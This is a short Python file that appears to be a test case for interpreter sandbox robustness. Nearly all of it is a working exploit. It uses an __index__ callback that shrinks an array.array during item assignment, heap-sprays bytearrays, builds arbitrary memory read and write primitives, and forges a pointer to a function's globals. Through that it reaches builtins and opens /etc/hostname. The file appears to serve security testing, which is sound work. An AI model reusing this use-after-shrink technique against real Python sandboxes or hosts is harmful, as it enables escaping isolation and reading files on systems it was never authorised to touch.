"""No app writes past the end of an array that it makes smaller while a value says its number."""

CLASS = "interpreter"
BOUNDARY = "both"
NEEDS = ("array", "json")


import array
import json

kept = []


def window(address):
    """64 bytes of memory: the number goes past the array's end, to where one of many bytearrays begins."""
    spray = [bytearray(64) for _ in range(2000)]
    numbers = array.array("q", [0] * 32)

    class Shrinking:
        def __index__(self):
            spray[1000] = None
            del numbers[1:]
            return address

    numbers[13] = Shrinking()
    kept.append(spray)
    return next(it for it in spray if it and any(it))


def word(address, at):
    return int.from_bytes(window(address)[at : at + 8], "little")


def attack():
    shelf = [None]
    try:
        variables = word(id(json.dumps), 16)
    except IndexError:
        return "ABSENT: this Python looks at the array again"
    window(word(id(shelf), 24))[:8] = variables.to_bytes(8, "little")
    kept.append(shelf)
    builtins = shelf[0]["__builtins__"]
    opened = builtins["open"] if isinstance(builtins, dict) else builtins.open
    return "ESCAPED: " + opened("/etc/hostname").read(20)
